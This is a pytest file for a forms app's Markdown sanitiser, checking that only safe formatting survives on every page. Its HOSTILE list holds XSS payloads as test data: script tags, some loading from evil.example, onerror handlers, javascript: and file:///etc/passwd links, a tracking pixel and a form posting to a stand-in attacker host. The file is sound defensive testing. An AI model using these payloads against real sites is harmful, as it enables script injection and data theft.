"""What staff write with Markdown, on every face that shows it: stress, lists and links, and nothing else."""

from html.parser import HTMLParser

import pytest

from forms_app.domain.definitions import Definition
from forms_app.services import forms
from forms_app.web.markdown import ATTRIBUTES, LONGEST, TAGS, plain, rendered, with_sentence
from tests import make
from tests.web.builder_pages import Builder

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "an unclosed script": "<script>alert(1)",
    "a comment that hides": "<!-- <b> --> words",
    "an image that runs": "<img src=x onerror=alert(1)>",
    "a picture that tells who reads": "![](https://evil.example/pixel.png)",
    "a picture by name": "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "a javascript link": "[win](javascript:alert(1))",
    "in mixed letters": "[win](JaVaScRiPt:alert(1))",
    "with a tab": "[win](java\tscript:alert(1))",
    "with an entity": "[win](&#106;avascript:alert(1))",
    "with a long entity": "[win](javascript&colon;alert(1))",
    "in per cents": "[win](javascript%3Aalert(1))",
    "as an autolink": "<javascript:alert(1)>",
    "a vbscript link": "[win](vbscript:msgbox(1))",
    "data": "[win](data:text/html;base64,PHNjcmlwdD4=)",
    "a file": "[win](file:///etc/passwd)",
    "an address without a scheme": "[win](//evil.example/)",
    "a page of this site": "[win](/staff/forms)",
    "a quote in an address": '[win](https://a.example/"onmouseover="alert(1))',
    "a quote in a title": "[win](https://a.example 'x\" onmouseover=\"alert(1)')",
    "a style": '<p style="position:fixed;inset:0">all over</p>',
    "a class": '<b class="button">words</b>',
    "a form": "<form action=https://evil.example><input name=code>",
    "a frame": "<iframe src=https://evil.example></iframe>",
    "a drawing that runs": "<svg onload=alert(1)>",
    "mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a heading": "# Your answers are lost",
    "a rule and a heading": "Your answers\n===",
    "code": "```html\n<script>alert(1)</script>\n```",
    "a table": "| a | b |\n| - | - |\n| 1 | <script>alert(1)</script> |",
    "unclosed signs": "**bold *slanted [words](https://a.example",
    "brackets without end": "[" * LONGEST,
    "links in links": "[a [b](https://b.example)](https://a.example)",
    "a zero byte": "a\0<script>",
}


class Reader(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html):
        super().__init__()
        self.elements, self.links, self.words = [], [], ""
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))
        if tag == "a":
            self.links.append(dict(attributes).get("href", ""))

    def handle_data(self, data):
        self.words += data


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_words_stay_words(text):
    read = Reader(rendered(text))
    for tag, attributes in read.elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
    assert all(link.lower().startswith("https://a.example") or link == "https://b.example" for link in read.links
               if "evil" not in link or not link.startswith("https://evil.example/pixel.png"))  # fmt: skip


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Only **one** of *these*.", "<p>Only <strong>one</strong> of <em>these</em>.</p>"),
        ("One line\nand another\r\n\r\nA paragraph", "<p>One line<br>\nand another</p>\n<p>A paragraph</p>"),
        ("- salt\n- pear", "<ul>\n<li>salt</li>\n<li>pear</li>\n</ul>"),
        ("Less <b>bold</b> & 3 < 4 &amp;", "<p>Less &lt;b&gt;bold&lt;/b&gt; &amp; 3 &lt; 4 &amp;amp;</p>"),
        ("    set in, and # no heading", "<p>set in, and # no heading</p>"),
        (r"\*as it is\*", "<p>*as it is*</p>"),
    ],
)
def test_what_is_written_is_shown(text, html):
    assert rendered(text) == html


@pytest.mark.parametrize("address", ["https://a.example/x?y=1", "HTTP://a.example", "mailto:a@b.example", "tel:+49301"])
def test_links_lead_out_without_telling_from_where(address):
    ((tag, attributes),) = [one for one in Reader(rendered(f"[words]({address})")).elements if one[0] == "a"]
    assert attributes == {"href": address, "rel": "noopener noreferrer nofollow"}


def test_plain_words_have_no_signs_and_no_addresses():
    assert plain("**Two** minutes,\n[about us](https://a.example).\n\n- salt\n- <b>pear</b>") == (
        "Two minutes, about us. salt <b>pear</b>"
    )


def test_what_a_question_type_adds_stands_in_the_same_paragraph_where_there_is_one():
    assert with_sentence(rendered("Only one."), "Room for 20.") == "<p>Only one. Room for 20.</p>"
    assert with_sentence(rendered("- a"), "Room.") == "<ul>\n<li>a</li>\n</ul><p>Room.</p>"
    assert (with_sentence(None, "Room."), with_sentence(None, "")) == ("<p>Room.</p>", "")


TEXT = (
    "**Two** [minutes](https://a.example) <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![p](https://t.example)"
)


@pytest.fixture
def shown(app):
    """A form that says it in its introduction, its help and a text, with somebody in front of its draft."""
    said = {"en": TEXT}
    first = [make.question("vote01", help=said), make.question("words1", "statement", help=said)]
    pages = [make.page("page01", *first), make.page("page02", make.question("vote02", help=said))]
    opened = Definition.model_validate({**make.form(*pages).to_json(), "intro": said})
    return Builder(app, make.open_form(opened=opened))


def each_face(app, shown):
    visitor = app.test_client()
    first = visitor.get(f"/f/{shown.slug}")
    yield visitor.get("/")
    yield first
    yield visitor.post(f"/f/{shown.slug}", data={"token": make.token_in(first), "step": "page01", "go": "next"})
    yield visitor.get(f"/f/{shown.slug}/about")
    yield shown.get()
    yield shown.get(card="vote01")
    yield shown.get(card="words1")
    for tab in ("settings", "logic", "preview", "versions"):
        yield shown.get(tab)
    yield shown.get("versions", number=1)


def test_every_face_shows_it_without_what_is_hostile(app, shown):
    formatted = 0
    for page in each_face(app, shown):
        read = Reader(page.text)
        assert page.status_code == 200
        assert not [tag for tag, attributes in read.elements if "onerror" in attributes or tag == "img"]
        assert not [link for link in read.links if "javascript" in link.lower()]
        formatted += "<strong>Two</strong>" in page.text
    assert formatted >= 6


def test_the_main_page_says_the_plain_words(app, shown):
    page = app.test_client().get("/").text
    assert ("<p>Two minutes " in page, "**" in page) == (True, False)


def test_a_text_that_is_too_long_is_a_gap_and_still_shown(app):
    made = Builder(app, forms.start_draft(document=make.blank(title="Bars"), slug=None))
    card = made.add("yes_no", text="Shall we?")
    made.post(do="done", card=card, text="Shall we?", help="*" * (LONGEST + 1))
    page = made.get(card=card)
    assert (page.status_code, "a text is longer than 4000 letters" in page.text) == (200, True)
